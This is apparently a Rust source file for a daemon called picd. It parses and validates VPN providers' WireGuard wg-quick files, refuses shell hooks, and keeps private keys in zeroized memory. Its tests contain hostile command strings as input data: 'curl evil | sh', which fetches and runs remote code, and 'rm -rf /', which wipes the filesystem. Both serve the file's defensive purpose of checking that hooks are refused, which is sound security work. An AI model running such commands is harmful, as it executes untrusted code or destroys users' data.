//! A provider's wg-quick file, read the way wg-quick reads it (sections, `Key = value`, `#`
//! comments, keys in any case) but stricter: exactly one `[Interface]` and one `[Peer]`, only
//! the keys picd knows, and never a hook (`PreUp`, `PostUp`, `PreDown`, `PostDown`): those are
//! shell commands, and a provider's file must not run anything as root on the cell. Every
//! refusal names its line.

use std::net::IpAddr;

use ipnet::IpNet;
use serde::{Deserialize, Serialize};
use zeroize::Zeroizing;

/// A provider file is a few hundred bytes; anything near this is not one.
pub const CONFIG_MAX_BYTES: usize = 8 * 1024;
const DNS_MAX: usize = 4;
const ADDRESSES_MAX: usize = 4;
const ALLOWED_IPS_MAX: usize = 64;
const HOST_MAX: usize = 253;
const HOOKS: [&str; 4] = ["preup", "postup", "predown", "postdown"];

/// What may be stored in the clear and shown: everything but the keys.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Settings {
    pub addresses: Vec<IpNet>,
    pub dns: Vec<IpAddr>,
    pub mtu: Option<u32>,
    pub peer_public_key: String,
    /// `host:port` as written; a host name is resolved when the interface is built.
    pub endpoint: String,
    pub allowed_ips: Vec<IpNet>,
    pub persistent_keepalive: Option<u16>,
    pub has_preshared_key: bool,
}

/// The secrets, kept in the vault and wiped from memory when dropped.
pub struct Secrets {
    pub private_key: Zeroizing<String>,
    pub preshared_key: Option<Zeroizing<String>>,
}

#[derive(PartialEq)]
enum Section {
    None,
    Interface,
    Peer,
}

#[derive(Default)]
struct Found {
    private_key: Option<Zeroizing<String>>,
    addresses: Vec<IpNet>,
    dns: Vec<IpAddr>,
    mtu: Option<u32>,
    public_key: Option<String>,
    preshared_key: Option<Zeroizing<String>>,
    endpoint: Option<String>,
    allowed_ips: Vec<IpNet>,
    keepalive: Option<u16>,
}

/// Parses and validates a provider's file; Err names the line and what is wrong with it.
pub fn parse(text: &str) -> Result<(Settings, Secrets), String> {
    if text.len() > CONFIG_MAX_BYTES {
        return Err(format!("is longer than {CONFIG_MAX_BYTES} bytes"));
    }
    let mut found = Found::default();
    let (mut section, mut interfaces, mut peers) = (Section::None, 0, 0);
    for (index, raw) in text.lines().enumerate() {
        let n = index + 1;
        let line = raw.split('#').next().unwrap_or("").trim();
        if line.is_empty() {
            continue;
        }
        if line.starts_with('[') {
            section = match line.to_ascii_lowercase().as_str() {
                "[interface]" => {
                    interfaces += 1;
                    Section::Interface
                }
                "[peer]" => {
                    peers += 1;
                    Section::Peer
                }
                _ => {
                    return Err(format!(
                        "line {n}: unknown section (only [Interface] and [Peer])"
                    ))
                }
            };
            if interfaces > 1 || peers > 1 {
                return Err(format!(
                    "line {n}: one [Interface] and one [Peer] only (an exit has one server)"
                ));
            }
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            return Err(format!("line {n}: expected Key = value"));
        };
        let (key, value) = (key.trim().to_ascii_lowercase(), value.trim());
        let result = match section {
            Section::None => Err("comes before any [Interface] or [Peer]".to_string()),
            Section::Interface => interface_key(&mut found, &key, value),
            Section::Peer => peer_key(&mut found, &key, value),
        };
        result.map_err(|e| format!("line {n}: {} {e}", key_name(raw)))?;
    }
    finish(found)
}

/// The key as the file wrote it, for messages.
fn key_name(raw: &str) -> String {
    let key = raw.split('=').next().unwrap_or("").trim();
    key.chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .take(32)
        .collect()
}

fn interface_key(found: &mut Found, key: &str, value: &str) -> Result<(), String> {
    if HOOKS.contains(&key) {
        return Err("is refused: picd runs no commands from a provider's file".into());
    }
    match key {
        "privatekey" => found.private_key = Some(Zeroizing::new(wg_key(value)?)),
        "address" => found.addresses.extend(list(value, ADDRESSES_MAX, address)?),
        "dns" => found.dns.extend(list(value, DNS_MAX, |v| {
            v.parse::<IpAddr>()
                .map_err(|_| "must list IP addresses".to_string())
        })?),
        "mtu" => {
            let mtu = value
                .parse::<u32>()
                .ok()
                .filter(|m| (1280..=9000).contains(m));
            found.mtu = Some(mtu.ok_or("must be a number from 1280 to 9000")?);
        }
        _ => return Err("is not a key picd knows in [Interface]".into()),
    }
    Ok(())
}

fn peer_key(found: &mut Found, key: &str, value: &str) -> Result<(), String> {
    match key {
        "publickey" => found.public_key = Some(wg_key(value)?),
        "presharedkey" => found.preshared_key = Some(Zeroizing::new(wg_key(value)?)),
        "endpoint" => found.endpoint = Some(endpoint(value)?),
        "allowedips" => found.allowed_ips.extend(list(value, ALLOWED_IPS_MAX, |v| {
            v.parse::<IpNet>()
                .map(|n| n.trunc())
                .map_err(|_| "must list networks such as 0.0.0.0/0".to_string())
        })?),
        "persistentkeepalive" if value.eq_ignore_ascii_case("off") => found.keepalive = None,
        "persistentkeepalive" => {
            let seconds = value.parse::<u16>().ok().filter(|s| *s > 0);
            found.keepalive = Some(seconds.ok_or("must be off or 1 to 65535 seconds")?);
        }
        _ => return Err("is not a key picd knows in [Peer]".into()),
    }
    Ok(())
}

fn finish(found: Found) -> Result<(Settings, Secrets), String> {
    let missing = |what: &str| format!("has no {what}");
    let private_key = found.private_key.ok_or_else(|| missing("PrivateKey"))?;
    if found.addresses.is_empty() {
        return Err(missing("Address"));
    }
    if !found.addresses.iter().any(|a| matches!(a, IpNet::V4(_))) {
        return Err("needs an IPv4 Address".into());
    }
    let public_key = found
        .public_key
        .ok_or_else(|| missing("[Peer] PublicKey"))?;
    let endpoint = found.endpoint.ok_or_else(|| missing("[Peer] Endpoint"))?;
    if found.allowed_ips.is_empty() {
        return Err(missing("[Peer] AllowedIPs"));
    }
    let settings = Settings {
        addresses: found.addresses,
        dns: found.dns,
        mtu: found.mtu,
        peer_public_key: public_key,
        endpoint,
        allowed_ips: found.allowed_ips,
        persistent_keepalive: found.keepalive,
        has_preshared_key: found.preshared_key.is_some(),
    };
    let secrets = Secrets {
        private_key,
        preshared_key: found.preshared_key,
    };
    Ok((settings, secrets))
}

fn list<T>(
    value: &str,
    max: usize,
    one: impl Fn(&str) -> Result<T, String>,
) -> Result<Vec<T>, String> {
    let items: Vec<&str> = value
        .split(',')
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect();
    if items.is_empty() || items.len() > max {
        return Err(format!("must list 1 to {max} values"));
    }
    items.into_iter().map(one).collect()
}

fn wg_key(value: &str) -> Result<String, String> {
    match crate::wireguard::parse_key(value) {
        Some(_) => Ok(value.to_string()),
        None => Err("must be a WireGuard key (44 characters of base64)".into()),
    }
}

/// An interface address with its prefix (`10.64.0.2/32`); a bare address is a host.
fn address(value: &str) -> Result<IpNet, String> {
    value
        .parse::<IpNet>()
        .or_else(|_| value.parse::<IpAddr>().map(IpNet::from))
        .map_err(|_| "must list addresses such as 10.64.0.2/32".to_string())
}

/// `host:port` or `[v6]:port`, the host an address or a DNS name.
fn endpoint(value: &str) -> Result<String, String> {
    const SHAPE: &str = "must be host:port";
    if value.parse::<std::net::SocketAddr>().is_ok() {
        return Ok(value.to_string());
    }
    let (host, port) = value.rsplit_once(':').ok_or(SHAPE)?;
    port.parse::<u16>()
        .ok()
        .filter(|p| *p > 0)
        .ok_or("has no valid port")?;
    let labels_ok = host.split('.').all(|label| {
        !label.is_empty()
            && label.len() <= 63
            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
    });
    match !host.is_empty() && host.len() <= HOST_MAX && labels_ok {
        true => Ok(value.to_string()),
        false => Err(SHAPE.into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY_A: &str = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
    const KEY_B: &str = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";

    fn file(extra_interface: &str, extra_peer: &str) -> String {
        format!(
            "# from the provider\n[Interface]\nPrivateKey = {KEY_A}\nAddress = 10.64.0.2/32, fd64::2/128\n\
             DNS = 10.64.0.1\n{extra_interface}\n[Peer]\nPublicKey = {KEY_B}\nEndpoint = vpn.example.net:51820\n\
             AllowedIPs = 0.0.0.0/0, ::/0\n{extra_peer}\n"
        )
    }

    #[test]
    fn a_provider_file_splits_into_settings_and_secrets() {
        let text = file(
            "MTU = 1420",
            &format!("PresharedKey = {KEY_A}\nPersistentKeepalive = 25"),
        );
        let (settings, secrets) = parse(&text).expect("valid");
        assert_eq!(settings.addresses.len(), 2);
        assert_eq!(settings.dns, vec!["10.64.0.1".parse::<IpAddr>().unwrap()]);
        assert_eq!(settings.mtu, Some(1420));
        assert_eq!(settings.endpoint, "vpn.example.net:51820");
        assert_eq!(settings.persistent_keepalive, Some(25));
        assert!(settings.has_preshared_key);
        assert_eq!(secrets.private_key.as_str(), KEY_A);
        let shown = serde_json::to_string(&settings).unwrap();
        assert!(!shown.contains(KEY_A), "a secret in the settings: {shown}");
    }

    #[test]
    fn hooks_unknown_keys_and_bad_values_are_refused_by_line() {
        let refused = |text: String, wanted: &str| {
            let err = parse(&text).err().unwrap_or_default();
            assert!(err.contains(wanted), "{wanted:?} not in {err:?}");
        };
        refused(
            file("PostUp = curl evil | sh", ""),
            "line 6: PostUp is refused",
        );
        refused(file("preDown = rm -rf /", ""), "line 6: preDown is refused");
        refused(file("Table = off", ""), "line 6: Table is not a key");
        refused(file("", "Surprise = 1"), "line 11: Surprise is not a key");
        refused(
            file("", "Endpoint = nope"),
            "line 11: Endpoint must be host:port",
        );
        refused(
            file("", "PersistentKeepalive = -1"),
            "line 11: PersistentKeepalive",
        );
        refused(
            file("DNS = dns.example", ""),
            "line 6: DNS must list IP addresses",
        );
        refused(
            file("", "[Peer]"),
            "line 11: one [Interface] and one [Peer] only",
        );
        refused(
            file("", "").replace(KEY_B, "short"),
            "line 8: PublicKey must be a WireGuard key",
        );
        refused(
            file("", "").replace("Address = ", "Adress = "),
            "line 4: Adress",
        );
        refused(
            file("", "").replace("[Peer]", "[Pear]"),
            "line 7: unknown section",
        );
        refused(
            file("", "").replace("Endpoint", "#Endpoint"),
            "has no [Peer] Endpoint",
        );
        refused("x".repeat(CONFIG_MAX_BYTES + 1), "longer than");
    }
}
